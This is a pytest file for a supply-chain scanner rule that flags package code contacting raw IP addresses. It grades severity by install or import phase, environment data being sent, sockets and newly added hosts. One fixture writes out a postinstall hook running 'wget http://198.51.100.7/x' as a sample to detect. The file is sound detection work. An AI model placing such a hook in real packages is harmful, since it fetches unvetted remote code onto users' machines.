import pytest

from customhouse.model.content import InstallHook
from customhouse.rules.code.raw_address_contacted import RULE
from rules.cases import call, can, case, change, code, code_case, content, findings, grades, only, said

URL = said("raw-address", "http://198.51.100.7:8080", 2)
ALONE = said("raw-address", "198.51.100.7", 2)
NETWORK = can("network", "http.get", 3)
PLAIN = call("http.get", None, line=3)
SENT = call("http.get", None, line=4, origins=("environment",))


def file(*mentions, calls=(PLAIN,), capabilities=(NETWORK,), **parts):
    return code(*capabilities, mentions=mentions, calls=calls, **parts)


@pytest.mark.parametrize("reach", ["install", "import"])
def test_data_of_the_machine_blocks(reach):
    finding = only(RULE, code_case(file(URL, calls=(PLAIN, SENT), reach=reach)))
    assert (finding.severity, finding.confidence, finding.phase) == ("critical", "high", reach)
    assert finding.message.startswith("index.js names the address http://198.51.100.7:8080 and gives data")


@pytest.mark.parametrize(
    ("mention", "reach", "grade"),
    [
        (URL, "install", ("high", "high")),
        (URL, "import", ("high", "medium")),
        (ALONE, "install", ("medium", "medium")),
        (ALONE, "import", ("low", "medium")),
    ],
)
def test_beside_calls_to_the_network(mention, reach, grade):
    assert grades(RULE, code_case(file(mention, reach=reach))) == [grade]


def test_as_before_is_reported():
    assert grades(RULE, code_case(file(URL), change=change())) == [("medium", "medium")]
    added = change(added_hosts=("198.51.100.7",))
    assert grades(RULE, code_case(file(URL), change=added)) == [("high", "medium")]
    assert grades(RULE, code_case(file(URL, calls=(SENT,)), change=change())) == [("medium", "medium")]


def test_a_socket_that_names_it():
    dial = call("net.connect", "3306", "198.51.100.7", line=3)
    subject = file(ALONE, calls=(dial,), capabilities=(can("network", "net.connect", 3),))
    assert grades(RULE, code_case(subject)) == [("high", "medium")]
    assert grades(RULE, code_case(subject, change=change(added_hosts=("198.51.100.7",)))) == [("high", "high")]


def test_a_file_that_opens_sockets_and_has_one():
    dial = call("net.connect", None, line=3)
    subject = file(URL, calls=(dial,), capabilities=(can("network", "net.connect", 3),))
    assert grades(RULE, code_case(subject, change=change(added_hosts=("198.51.100.7",)))) == [("high", "high")]


def test_when_called():
    later = can("network", "http.get", 9, when="call")
    plain = call("http.get", None, line=9, when="call")
    assert grades(RULE, code_case(file(URL, calls=(plain,), capabilities=(later,)))) == [("low", "low")]
    assert findings(RULE, code_case(file(ALONE, calls=(plain,), capabilities=(later,)))) == []
    sent = call("http.get", None, line=9, when="call", origins=("host",))
    assert grades(RULE, code_case(file(URL, calls=(sent,), capabilities=(later,)))) == [("medium", "medium")]
    assert findings(RULE, code_case(file(URL, calls=(sent,), capabilities=(later,), reach="other"))) == []


def test_another_file_reaches_out():
    names = file(URL, calls=(), capabilities=(), path="places.js", reach="install")
    assert grades(RULE, code_case(names)) == [("low", "medium")]
    assert grades(RULE, code_case(names, file(path="send.js", reach="install"))) == [("high", "medium")]
    assert findings(RULE, code_case(file(ALONE, calls=(), capabilities=()))) == []


def test_a_table_of_numbers():
    many = [said("raw-address", f"198.51.100.{last}") for last in range(20, 40)]
    assert findings(RULE, code_case(file(*many, reach="install"))) == []
    assert grades(RULE, code_case(file(*many, URL, reach="install"))) == [("high", "high")]


def test_a_command_line_is_enough():
    hook = InstallHook("lifecycle-script", "postinstall", "wget http://198.51.100.7/x", mentions=(URL,))
    assert grades(RULE, case(contents=(content(hooks=(hook,)),))) == [("critical", "high")]


def test_another_file_is_given_data_or_the_address_is_new():
    names = file(URL, calls=(), capabilities=(), path="places.js")
    reaches, gives = file(path="send.js"), file(calls=(SENT,), path="send.js")
    assert grades(RULE, code_case(names, reaches)) == [("medium", "medium")]
    assert grades(RULE, code_case(names, gives)) == [("high", "medium")]
    assert grades(RULE, code_case(names, reaches, change=change(added_hosts=("198.51.100.7",)))) == [("high", "medium")]
